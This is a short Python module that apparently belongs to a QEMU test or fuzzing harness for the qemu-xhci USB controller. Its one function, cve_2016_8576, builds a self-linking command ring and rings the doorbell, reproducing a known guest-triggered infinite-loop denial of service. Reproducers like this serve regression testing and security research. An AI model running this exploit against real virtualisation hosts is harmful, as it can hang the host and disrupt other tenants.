# SPDX-License-Identifier: GPL-2.0
"""QEMU's xHCI"""

import struct

DEVICES = ("qemu-xhci",)
BACKENDS = ()
# CAPLENGTH and HCIVERSION
PROBE = 0, 0x0

OPERATIONAL, RUNTIME, DOORBELL = 0x40, 0x1000, 0x2000
COMMAND, RING = OPERATIONAL, OPERATIONAL + 0x18
TABLE_SIZE, TABLE, DEQUEUE = RUNTIME + 0x28, RUNTIME + 0x30, RUNTIME + 0x38
RUN = 1
LINK = 6 << 10
CYCLE = 1


def cve_2016_8576(guest):
    """All that there is in the ring of commands is a link to itself."""
    bar = guest.device.bars[0]
    events = guest.alloc(4096)
    table = guest.memory(struct.pack("<QII", events, 16, 0))
    ring = guest.alloc(64)
    guest.put(ring, struct.pack("<QII", ring, 0, LINK | CYCLE))
    bar.write(TABLE_SIZE, 1)
    bar.write(DEQUEUE, events)
    bar.write(DEQUEUE + 4, 0)
    bar.write(TABLE, table)
    bar.write(TABLE + 4, 0)
    bar.write(RING, ring | CYCLE)
    bar.write(RING + 4, 0)
    bar.write(COMMAND, RUN)
    bar.write(DOORBELL, 0)
